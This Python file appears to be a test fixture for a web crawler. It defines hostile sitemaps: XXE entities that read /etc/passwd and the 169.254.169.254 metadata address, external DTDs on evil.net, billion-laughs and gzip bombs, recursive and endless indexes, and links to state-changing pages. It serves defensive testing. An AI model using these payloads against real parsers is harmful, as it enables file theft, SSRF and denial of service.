"""Sitemaps that explode, recurse, never end or lead elsewhere. The site must be read as if they were not there."""

import gzip
import zlib

from sourcing_pipeline_tests.web.hostile.row import ABOUT, HOME, Endless, Row, redirect, site, targets_of
from sourcing_pipeline_tests.web.server import Reply, Request, Site, page

XML = {"Content-Type": "application/xml"}
URLSET = b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]><urlset><url><loc>&lol11;</loc></url></urlset>"
)
BLOWUP = (
    b'<!DOCTYPE u [<!ENTITY a "'
    + b"a" * 100_000
    + b'">]><urlset><url><loc>'
    + b"&a;" * 100_000
    + b"</loc></url></urlset>"
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://169.254.169.254/">'
    b'<!ENTITY %% p SYSTEM "http://evil.net/x.dtd">%%p;]><urlset><url><loc>https://{host}/wholesale?x=&f;</loc></url>'
    b"<url><loc>&h;</loc></url></urlset>"
).replace(b"%%", b"%")


def _map(name: str, body: bytes, headers: dict[str, str] = XML) -> Row:
    return Row(f"sitemap-{name}", site(HOME, sitemap=Reply(body=body, headers=headers), about=ABOUT), asked=("/about",))


def _locations(*locations: str) -> bytes:
    return URLSET + b"".join(f"<url><loc>{location}</loc></url>".encode() for location in locations) + b"</urlset>"


def _index(*locations: str) -> Reply:
    items = "".join(f"<sitemap><loc>{location}</loc></sitemap>" for location in locations)
    return Reply(body=f"<sitemapindex>{items}</sitemapindex>".encode(), headers=XML)


def _recursive(request: Request) -> Reply:
    """Every sitemap is an index of two more."""
    if request.target.endswith(".xml"):
        return _index(f"/a{request.target}", f"/b{request.target}")
    return {"/": HOME, "/about": ABOUT}.get(request.target, Reply(404))


def _spaces(megabytes: int) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, 31)
    return b"".join(compressor.compress(b" " * 1_000_000) for _ in range(megabytes)) + compressor.flush()


def _all_entries() -> Site:
    urls = "".join(f"<url><loc>https://{{host}}/products/{n}</loc></url>" for n in range(100_000))
    return site(HOME, sitemap=Reply(body=f"<urlset>{urls}</urlset>".encode(), headers=XML), about=ABOUT)


SPACES = _spaces(50)
OUTWARD = _locations(
    "http://evil.net/about",
    "//evil.net/about",
    "http://169.254.169.254/about",
    "file:///etc/passwd",
    "javascript:about",
    "http://[::1",
    "https://good.com\\@evil.net/about",
)
CHANGES = ("/cart/add?id=1", "/logout", "/?add-to-cart=5", "/account/delete")

ROWS = [
    _map("external-entities", EXTERNAL),
    _map("billion-laughs", LAUGHS),
    _map("quadratic-blowup", BLOWUP),
    _map("external-dtd", b'<!DOCTYPE urlset SYSTEM "http://evil.net/x.dtd"><urlset/>'),
    _map(
        "xinclude",
        b'<urlset xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></urlset>',
    ),
    _map("stylesheet", b'<?xml-stylesheet href="http://evil.net/x.xsl"?>' + URLSET + b"</urlset>"),
    _map("gzip-bomb", SPACES, {"Content-Type": "application/gzip"}),
    _map("gzip-bomb-encoded", SPACES, XML | {"Content-Encoding": "gzip"}),
    _map("gzip-bomb-twice", gzip.compress(SPACES), XML | {"Content-Encoding": "gzip"}),
    _map("truncated-gzip", gzip.compress(_locations("/wholesale") * 99)[:-20], {"Content-Type": "application/gzip"}),
    _map("white-space", b"<urlset><url><loc>" + b" " * 5_000_000 + b"<"),
    _map("open-tags", b"<loc>" * 500_000),
    _map("nested", b"<a>" * 500_000),
    _map("html", page("No sitemap").body, {"Content-Type": "text/html"}),
    _map("binary", bytes(range(256)) * 999),
    _map("utf16", _locations("/wholesale").decode().encode("utf-16")),
    _map("empty", b""),
    _map("outward", OUTWARD),
    _map("one-location-of-1-mb", _locations("/" + "a" * 1_000_000)),
    Row(
        "sitemap-endless",
        site(
            HOME,
            sitemap=Reply(headers=XML, pieces=Endless(URLSET, b"<url><loc>/about</loc></url>" * 2_000)),
            about=ABOUT,
        ),
        asked=("/about",),
    ),
    Row(
        "sitemap-of-50-mb",
        site(HOME, sitemap=Reply(headers=XML, pieces=[b" " * 1_000_000] * 50), about=ABOUT),
        asked=("/about",),
    ),
    Row("sitemap-of-100000-pages", _all_entries(), asked=("/about",)),
    Row(
        "sitemap-of-itself",
        site(HOME, sitemap=_index("/sitemap.xml", "/sitemap.xml?2", "/sitemap.xml#3"), about=ABOUT),
        asked=("/about",),
    ),
    Row("sitemap-recursive", _recursive, asked=("/about",)),
    Row(
        "sitemap-index-of-10000",
        site(HOME, sitemap=_index(*(f"/{n}.xml" for n in range(10_000))), about=ABOUT),
        asked=("/about",),
    ),
    Row(
        "sitemap-index-of-other-sites",
        site(HOME, sitemap=_index("http://evil.net/a.xml", "//evil.net/b.xml", "http://169.254.169.254/"), about=ABOUT),
        asked=("/about",),
    ),
    Row(
        "sitemap-redirects-away",
        site(HOME, sitemap=redirect("http://evil.net/sitemap.xml"), about=ABOUT),
        asked=("/about",),
    ),
    Row("sitemap-silent", site(HOME, sitemap=Reply(raw=b"", pause_seconds=9), about=ABOUT), asked=("/about",)),
    Row(
        "sitemap-of-what-changes-something",
        targets_of(
            {
                "/": HOME,
                "/sitemap.xml": Reply(
                    body=_locations(*(f"https://{{host}}{target}" for target in CHANGES)), headers=XML
                ),
                "/about": ABOUT,
            }
        ),
        asked=("/about",),
        not_asked=CHANGES,
    ),
    Row(
        "sitemap-of-what-robots-forbids",
        site(
            HOME,
            Reply(body=b"User-agent: *\nDisallow: /private"),
            Reply(body=_locations("https://{host}/private/wholesale"), headers=XML),
            about=ABOUT,
        ),
        asked=("/about",),
        not_asked=("/private/wholesale",),
    ),
]
